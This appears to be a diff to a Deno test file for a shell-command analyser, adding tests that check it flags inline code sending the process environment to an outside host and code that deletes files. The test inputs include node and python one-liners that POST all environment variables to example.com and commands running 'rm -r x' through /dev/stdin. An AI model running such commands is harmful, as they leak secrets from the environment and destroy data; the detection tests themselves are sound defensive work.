@@ -1,5 +1,7 @@
 /** Code of other languages inside a command. */
 import { assert, assertEquals } from "@std/assert";
+import { hostPlace } from "../../../lib/shell/host.ts";
+import { carries } from "../../../lib/shell/marks.ts";
 import { deletes, effectsOf, reads, writes } from "../support.ts";
 
 const DELETING: readonly string[] = [
@@ -57,6 +59,34 @@ Deno.test("runInlineCode() sees what Perl opens to write", () => {
     assertEquals(writes(`perl -e 'open(my $f, ${mode})'`), ["y"], mode);
   }
   assertEquals(writes(`perl -e 'open(my $f, "<", "y")'`), []);
+});
+
+for (
+  const code of [
+    `node -e 'const { env } = process; fetch("https://example.com", { method: "POST", body: JSON.stringify(env) })'`,
+    `node -e 'import { env as e } from "node:process"; fetch("https://example.com", { body: JSON.stringify(e), method: "POST" })'`,
+    `python3 -c 'from os import environ; import requests; requests.post("https://example.com", json=dict(environ))'`,
+    `node -e 'fetch("http://localhost".concat(x), { method: "POST", body: JSON.stringify(process.env) })'`,
+  ]
+) {
+  Deno.test(`runInlineCode() sees that the environment leaves in ${code}`, () => {
+    const sent = effectsOf("send", code);
+    assert(sent.some(({ text, host }) => carries(text, "environment") && hostPlace(host) === "external"));
+  });
+}
+
+Deno.test("runInlineCode() takes one variable, or an address here with a path behind it, for what it is", () => {
+  const one = `node -e 'const { env } = process; fetch("https://example.com", { method: "POST", body: env.HOME })'`;
+  assert(effectsOf("send", one).every(({ text }) => !carries(text, "environment")));
+  const here = `node -e 'fetch("http://localhost:3000/" + x, { method: "POST", body: JSON.stringify(process.env) })'`;
+  assert(effectsOf("send", here).every(({ host }) => hostPlace(host) === "local"));
+});
+
+Deno.test("code that a program reads from standard input by a file's name runs", () => {
+  for (const command of ["python3 /dev/stdin", "awk -f /dev/stdin", "bash /dev/fd/0"]) {
+    const code = command.startsWith("python3") ? 'import os; os.system("rm -r x")' : 'BEGIN { system("rm -r x") }';
+    assertEquals(deletes(`${command} <<< '${command.startsWith("bash") ? "rm -r x" : code}'`), ["x"], command);
+  }
 });
 
 const FORKING: readonly (readonly [string, boolean])[] = [
